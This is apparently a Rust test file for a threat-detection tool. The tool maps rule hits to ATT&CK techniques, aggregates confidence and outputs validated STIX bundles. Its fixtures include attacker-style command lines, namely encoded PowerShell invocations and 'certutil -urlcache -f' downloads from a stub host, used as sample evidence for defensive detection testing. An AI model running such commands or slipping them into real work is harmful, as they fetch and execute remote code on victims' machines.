//! Mapping sets: aggregation of evidence, and the STIX output.

use ttpmap_attack::KnowledgeBase;
use ttpmap_mapper::{Evidence, EvidenceKind, MappingSet, StixOptions, EVIDENCE_SAMPLES};
use ttpmap_stix::{StixObject, Timestamp};

fn rule_evidence(id: &str, command_line: &str, confidence: f64) -> Evidence {
    Evidence {
        kind: EvidenceKind::Rule {
            id: Some(id.to_owned()),
            title: format!("rule {id}"),
            level: "high".to_owned(),
        },
        observation: command_line.to_owned(),
        origin: None,
        fields: vec![("CommandLine".to_owned(), command_line.to_owned())],
        confidence,
    }
}

#[test]
fn confidence_is_noisy_or_over_distinct_sources() {
    let mut set = MappingSet::new();
    set.add(
        "t1059/001",
        &[],
        rule_evidence("a", "powershell -enc AAAA", 0.5),
    );
    // The same rule again: its best confidence counts once.
    set.add(
        "T1059.001",
        &[],
        rule_evidence("a", "powershell -enc BBBB", 0.6),
    );
    set.add(
        "T1059.001",
        &["execution".to_owned()],
        rule_evidence("b", "powershell -enc AAAA", 0.5),
    );
    let mapping = set.get("T1059.001").unwrap();
    // 1 − (1 − 0.6)(1 − 0.5) = 0.8
    assert!(
        (mapping.confidence - 0.8).abs() < 1e-12,
        "{}",
        mapping.confidence
    );
    assert_eq!(mapping.count, 3);
    assert_eq!(mapping.evidence.len(), 3);
    assert!((mapping.evidence[0].confidence - 0.6).abs() < 1e-12);
}

#[test]
fn evidence_is_sampled_not_accumulated() {
    let mut set = MappingSet::new();
    for i in 0..10_000 {
        let confidence = f64::from(i % 100) / 100.0;
        set.add(
            "T1105",
            &[],
            rule_evidence(
                "r",
                &format!("certutil -urlcache -f http://x/{i}"),
                confidence,
            ),
        );
    }
    let mapping = set.get("T1105").unwrap();
    assert_eq!(mapping.count, 10_000);
    assert_eq!(mapping.evidence.len(), EVIDENCE_SAMPLES);
    assert!(mapping
        .evidence
        .iter()
        .all(|e| e.confidence >= 0.99 - 1e-12));
}

#[test]
fn merging_sets_is_adding_their_evidence() {
    let mut a = MappingSet::new();
    a.add("T1105", &[], rule_evidence("r1", "x", 0.5));
    let mut b = MappingSet::new();
    b.add("T1105", &[], rule_evidence("r2", "y", 0.5));
    b.add("T1003", &[], rule_evidence("r3", "z", 0.9));
    a.merge(b);
    assert_eq!(a.len(), 2);
    assert!((a.get("T1105").unwrap().confidence - 0.75).abs() < 1e-12);
    assert_eq!(a.get("T1105").unwrap().count, 2);
    assert_eq!(a.with_min_confidence(0.8).len(), 1);
}

#[test]
fn resolve_names_techniques_and_keeps_unknown_ids() {
    let kb = KnowledgeBase::sample();
    let mut set = MappingSet::new();
    set.add(
        "T1059.001",
        &[],
        rule_evidence("a", "powershell -enc AAAA", 0.9),
    );
    set.add(
        "T1685",
        &["defense_impairment".to_owned()],
        rule_evidence("b", "x", 0.9),
    );
    set.resolve(&kb);
    let powershell = set.get("T1059.001").unwrap();
    assert_eq!(powershell.name.as_deref(), Some("PowerShell"));
    assert_eq!(powershell.tactics, ["execution"]);
    assert!(powershell.known);
    let newer = set.get("T1685").unwrap();
    assert!(!newer.known);
    assert_eq!(newer.tactics, ["defense-impairment"]);
    assert_eq!(set.unknown(), ["T1685"]);
}

#[test]
fn stix_output_validates_and_points_at_the_real_attack_pattern() {
    let kb = KnowledgeBase::sample();
    let mut set = MappingSet::new();
    set.add(
        "T1059.001",
        &[],
        rule_evidence("a", "powershell.exe -enc SQBFAFgA", 0.9),
    );
    set.add(
        "T1027",
        &[],
        rule_evidence("a", "powershell.exe -enc SQBFAFgA", 0.9),
    );
    set.add("T1685", &[], rule_evidence("b", "whatever.exe", 0.9));
    set.resolve(&kb);
    let options = StixOptions {
        time: Timestamp::parse("2026-11-27T12:00:00.000Z").unwrap(),
        producer: "ttpmap tests".to_owned(),
    };
    let bundle = set.to_stix(&kb, &options);
    let report = bundle.validate();
    assert!(report.violations.is_empty(), "{report:?}");
    let relationships: Vec<_> = bundle
        .objects()
        .iter()
        .filter_map(|o| match o {
            StixObject::Relationship(r) => Some(r),
            _ => None,
        })
        .collect();
    let targets: Vec<&str> = relationships
        .iter()
        .map(|r| r.target_ref.as_str())
        .collect();
    let powershell = kb.technique("T1059.001").unwrap();
    assert!(
        targets.contains(&powershell.stix_id().as_str()),
        "{targets:?}"
    );
    assert!(relationships
        .iter()
        .all(|r| r.relationship_type == "indicates"));
    // T1685 is unknown to the release: no relationship is invented for it.
    assert!(targets.iter().all(|t| kb.by_stix_str(t).is_some()));
    let indicator = bundle
        .objects()
        .iter()
        .find_map(|o| match o {
            StixObject::Indicator(i) if i.name.as_deref() == Some("rule a") => Some(i),
            _ => None,
        })
        .unwrap();
    assert_eq!(
        indicator.pattern,
        "[process:command_line = 'powershell.exe -enc SQBFAFgA']"
    );
    assert!(ttpmap_stix::pattern::Pattern::parse(&indicator.pattern)
        .unwrap()
        .validate()
        .is_empty());
    // Same mappings, same bundle.
    assert_eq!(set.to_stix(&kb, &options).to_json(), bundle.to_json());
    assert!(bundle
        .objects()
        .iter()
        .any(|o| matches!(o, StixObject::Sighting(_))));
    assert!(bundle
        .objects()
        .iter()
        .any(|o| matches!(o, StixObject::ObservedData(_))));
}
